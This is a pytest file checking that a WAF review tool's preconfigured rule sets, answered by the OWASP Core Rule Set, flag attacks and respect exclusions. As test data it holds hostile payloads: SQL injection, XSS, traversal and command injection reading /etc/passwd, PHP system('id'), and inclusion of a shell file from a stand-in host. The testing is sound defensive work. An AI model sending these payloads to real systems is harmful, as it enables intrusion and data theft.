"""The preconfigured sets, answered by the real OWASP Core Rule Set."""

from __future__ import annotations

import base64
import shutil
from pathlib import Path
from typing import Any

import pytest

from review.waf.corpus import Request
from review.waf.fields import Exclusion, Operator
from review.waf.rulesets import (
    FILES,
    RULES_FOLDER,
    CoreRules,
    Inspection,
    NotEvaluatedError,
    RuleSet,
    SetCall,
)
from tests.review.waf.examples import SQLI, core_rules, request_of

JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
MULTIPART = {"content-type": "multipart/form-data; boundary=limit"}


@pytest.fixture(scope="module")
def rules() -> CoreRules:
    return core_rules()


def opened(
    rules: CoreRules,
    name: str = "sqli-v33-stable",
    sensitivity: int = 1,
    *exclusions: Exclusion,
    inspection: Inspection | None = None,
    **options: Any,
) -> RuleSet:
    read = inspection or Inspection(65536, frozenset({"application/json"}))
    return rules.open(SetCall(name, sensitivity, **options), exclusions, read)


def part(value: str, name: str = "title") -> str:
    return f'--limit\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n--limit--\r\n'


ATTACKS: dict[str, dict[str, Any]] = {
    "sqli": {"path": SQLI},
    "xss": {"path": "/jobs?q=%3Cscript%3Ealert(1)%3C/script%3E"},
    "lfi": {"path": "/jobs?file=..%2F..%2F..%2Fetc%2Fpasswd"},
    "rfi": {"path": "/jobs?url=http://203.0.113.7/shell.txt%3F"},
    "rce": {"path": "/jobs?name=x%3Bcat%20%2Fetc%2Fpasswd"},
    "php": {"path": "/jobs?x=%3C%3Fphp%20system(%27id%27)%3B"},
    "java": {"path": "/jobs?x=java.lang.Runtime%20ProcessBuilder%20exec"},
    "nodejs": {"path": "/jobs?x=_%24%24ND_FUNC%24%24_function()%7B%7D"},
    "protocolattack": {"path": "/jobs?x=a%0d%0aSet-Cookie:%20b=c"},
    "scannerdetection": {"headers": {"user-agent": "nessus"}},
    "sessionfixation": {"path": "/jobs?x=document.cookie%3D%22a%3Bdomain%3Dx%22"},
    "methodenforcement": {"method": "TRACE"},
}


def test_every_set_has_an_attack_here() -> None:
    assert set(ATTACKS) == set(FILES)


@pytest.mark.parametrize("name", FILES)
def test_set_finds_its_attack_and_lets_an_ordinary_request_pass(name: str, rules: CoreRules) -> None:
    each = opened(rules, f"{name}-v33-stable")
    found = each.signatures(request_of(kind="attack", expect="deny", **ATTACKS[name]))
    number = int(FILES[name].split("-")[1])
    assert found
    assert {signature // 1000 for signature in found} == {number}
    assert each.signatures(request_of(headers={"user-agent": "Mozilla/5.0", "accept": "*/*"})) == ()


@pytest.mark.parametrize(
    ("fields", "found"),
    [
        ({"body": '{"a": {"b": ["1\' or \'1\'=\'1"]}}', "headers": JSON}, True),
        ({"body": "{\"a\": \"\\u0031' or '1'='1\"}", "headers": JSON}, True),
        ({"body": "id=1%27%20or%20%271%27=%271", "headers": FORM}, True),
        ({"body": "1' or '1'='1", "headers": {"content-type": "text/plain"}}, True),
        ({"body": "1' or '1'='1"}, True),
        ({"body_base64": base64.b64encode(b"1' or '1'='1").decode()}, True),
        ({"headers": {"cookie": "a=1%27%20or%20%271%27=%271"}}, True),
        ({"headers": {"x-anything": "1' or '1'='1"}}, False),
        (
            {"body": '{"text": "Une sc\u00e8ne \u00e0 Paris \u2014 \u65e5\u672c\u8a9e"}', "headers": JSON},
            False,
        ),
        ({"body": "[1, 2.5, null, true, {}]", "headers": JSON}, False),
    ],
)
def test_body_is_read_as_what_it_is(fields: dict[str, Any], found: bool, rules: CoreRules) -> None:
    request = request_of(kind="attack", expect="deny", method="POST", **fields)
    assert bool(opened(rules).signatures(request)) is found


def test_body_is_cut_at_the_declared_size(rules: CoreRules) -> None:
    padded = request_of(method="POST", body="a" * 10_000 + " 1' or '1'='1 <script>alert(1)</script>")
    small, large = Inspection(8192), Inspection(16384)
    assert not opened(rules, "xss-v33-stable", inspection=small).signatures(padded)
    assert opened(rules, "xss-v33-stable", inspection=large).signatures(padded)


def test_json_cut_in_the_middle_is_read_as_text(rules: CoreRules) -> None:
    body = '{"q": "<script>alert(1)</script>", "pad": "' + "a" * 9000 + '"}'
    request = request_of(kind="attack", expect="deny", method="POST", body=body, headers=JSON)
    cut = Inspection(8192, frozenset({"application/json"}))
    assert opened(rules, "xss-v33-stable", inspection=cut).signatures(request)


@pytest.mark.parametrize(
    ("body", "parsed", "as_text"),
    [
        # Injection shows at the start of a value, which as one text it is not.
        ('{"q": "1 or 1=1"}', True, False),
        # And ordinary keys in a row look like a statement.
        ('{"select": "a", "from": "b"}', False, True),
    ],
)
def test_json_is_one_text_where_it_is_not_parsed(
    body: str, parsed: bool, as_text: bool, rules: CoreRules
) -> None:
    request = request_of(method="POST", body=body, headers=JSON)
    assert bool(opened(rules).signatures(request)) is parsed
    assert bool(opened(rules, inspection=Inspection(65536)).signatures(request)) is as_text


def test_multipart_is_judged_by_the_harder_of_two_readings(rules: CoreRules) -> None:
    each = opened(rules, "protocolattack-v33-stable")
    head = "--limit\r\nContent-Disposition: form-data; name=f; filename=a.txt\r\n"
    upload = head + "Content-Type: text/plain\r\n\r\nhi\r\n--limit--\r\n"
    fields: dict[str, Any] = {"method": "POST", "headers": MULTIPART, "body": upload}
    # As one text its own part headers look like an injected header; parsed, they do not.
    assert each.signatures(request_of(**fields))
    assert not each.signatures(request_of(kind="attack", expect="deny", **fields))
    script = opened(rules, "xss-v33-stable")
    attack = {**fields, "body": part("<script>alert(1)</script>")}
    assert script.signatures(request_of(kind="attack", expect="deny", **attack))


def test_sensitivity_enables_signatures_by_paranoia_level(rules: CoreRules) -> None:
    noisy = request_of(path="/jobs?q=a%27b%27%27c%23%24%25%28%29-%2B")
    counts = [len(opened(rules, sensitivity=level).signatures(noisy)) for level in (1, 2, 3, 4)]
    assert counts == sorted(counts)
    assert counts[0] < counts[3]
    assert opened(rules, sensitivity=0).signatures(request_of(path=SQLI)) == ()


def test_opt_out_silences_a_signature_and_opt_in_wakes_one(rules: CoreRules) -> None:
    attack = request_of(path=SQLI)
    found = opened(rules).signatures(attack)
    assert 942100 in found
    without = opened(rules, opt_out=frozenset({942100})).signatures(attack)
    assert set(without) == set(found) - {942100}
    assert opened(rules, sensitivity=0, opt_in=frozenset({942100})).signatures(attack) == (942100,)


BAD = "1%27%20or%20%271%27=%271"


@pytest.mark.parametrize(
    ("exclusion", "fields", "found"),
    [
        (("query_param", "EQUALS", "id"), {"path": f"/a?id={BAD}"}, False),
        (("query_param", "EQUALS", "id"), {"path": f"/a?idx={BAD}"}, True),
        (("query_param", "EQUALS", "ID"), {"path": f"/a?id={BAD}"}, True),
        (("query_param", "STARTS_WITH", "i"), {"path": f"/a?id={BAD}"}, False),
        (("query_param", "EQUALS", "id"), {"path": f"/a?id={BAD}&other={BAD}"}, True),
        (("query_param", "EQUALS", "id"), {"method": "POST", "headers": FORM, "body": f"id={BAD}"}, False),
        (("cookie", "EQUALS", "SID"), {"headers": {"cookie": f"a=b; sid={BAD}"}}, False),
        (("cookie", "ENDS_WITH", "x"), {"headers": {"cookie": f"a=b; sid={BAD}"}}, True),
        (("header", "CONTAINS", "agent"), {"headers": {"user-agent": "1' or '1'='1"}}, False),
        (("header", "EQUALS", "referer"), {"headers": {"user-agent": "1' or '1'='1"}}, True),
        (("uri", "EQUALS", "/a"), {"path": f"/a?id={BAD}"}, True),
    ],
)
def test_excluded_fields_are_not_read(
    exclusion: tuple[Any, Any, str], fields: dict[str, Any], found: bool, rules: CoreRules
) -> None:
    request = request_of(kind="attack", expect="deny", **fields)
    assert opened(rules).signatures(request), "without the exclusion it must be found"
    each = opened(rules, "sqli-v33-stable", 1, Exclusion("sqli-v33-stable", *exclusion))
    assert bool(each.signatures(request)) is found


def test_exclusion_of_some_signatures_leaves_the_others(rules: CoreRules) -> None:
    attack = request_of(path="/a?q=%3Cscript%3Ealert(1)%3C/script%3E")
    found = opened(rules, "xss-v33-stable").signatures(attack)
    assert {941100, 941110} <= set(found)
    only = Exclusion("xss-v33-stable", "query_param", "EQUALS", "q", frozenset({941100}))
    assert set(opened(rules, "xss-v33-stable", 1, only).signatures(attack)) == set(found) - {941100}


def test_exclusion_of_another_set_says_nothing_here(rules: CoreRules) -> None:
    other = Exclusion("xss-v33-stable", "query_param", "EQUALS_ANY")
    assert opened(rules, "sqli-v33-stable", 1, other).signatures(request_of(path=SQLI))


@pytest.mark.parametrize("kind", ["attack", "contract", "benign"])
@pytest.mark.parametrize(
    ("operator", "name", "found"),
    [
        ("EQUALS", "text", False),
        ("ENDS_WITH", "ext", False),
        ("EQUALS", "prompt", False),
        ("EQUALS", "other", True),
    ],
)
def test_exclusion_of_a_parameter_reaches_into_json_at_any_depth(
    operator: Operator, name: str, found: bool, kind: str, rules: CoreRules
) -> None:
    request: Request = request_of(
        kind=kind, method="POST", headers=JSON, body='{"prompt": {"text": "1\' or \'1\'=\'1"}}'
    )
    each = opened(rules, "sqli-v33-stable", 1, Exclusion("sqli-v33-stable", "query_param", operator, name))
    assert bool(each.signatures(request)) is found


@pytest.mark.parametrize(
    ("name", "reason", "expected"),
    [
        ("cve-canary", "cve-canary holds signatures of Google that are not published", True),
        ("json-sqli-canary", "json-sqli-canary holds signatures of Google that are not published", True),
        ("sqli-v422-stable", "sqli-v422-stable is of version 4.22, installed is 3.3", False),
        ("sqli-stable", "sqli-stable is no set of the Core Rule Set", False),
        ("magic-v33-stable", "magic-v33-stable is no set of the Core Rule Set", False),
    ],
)
def test_what_cannot_be_answered_is_not_evaluated(
    name: str, reason: str, expected: bool, rules: CoreRules
) -> None:
    with pytest.raises(NotEvaluatedError) as raised:
        opened(rules, name)
    assert raised.value.reason.startswith(reason)
    assert raised.value.expected is expected


def test_installed_version_is_read_from_the_rules_and_must_be_one(rules: CoreRules, tmp_path: Path) -> None:
    assert rules.version.startswith("3.3.")
    with pytest.raises(NotEvaluatedError, match="install the package modsecurity-crs"):
        CoreRules.find(tmp_path)
    for name in ("REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "REQUEST-941-APPLICATION-ATTACK-XSS.conf"):
        shutil.copy(RULES_FOLDER / name, tmp_path)
    changed = tmp_path / "REQUEST-942-APPLICATION-ATTACK-SQLI.conf"
    text = changed.read_text(encoding="utf-8")
    changed.write_text(text.replace(f"ver.{rules.version}", "ver.4.22.0"), encoding="utf-8")
    with pytest.raises(NotEvaluatedError, match="mixes versions"):
        CoreRules.find(tmp_path)
    with pytest.raises(NotEvaluatedError, match="is missing in"):
        CoreRules(tmp_path, "3.3.4", "engine").open(SetCall("lfi-v33-stable"), (), Inspection())


def test_engine_that_is_not_installed_leaves_the_sets_unevaluated(monkeypatch: pytest.MonkeyPatch) -> None:
    def nothing(_name: str) -> None:
        return None

    monkeypatch.setattr("review.waf.rulesets.find_spec", nothing)
    with pytest.raises(NotEvaluatedError, match="libmodsecurity is not installed here"):
        CoreRules.find()
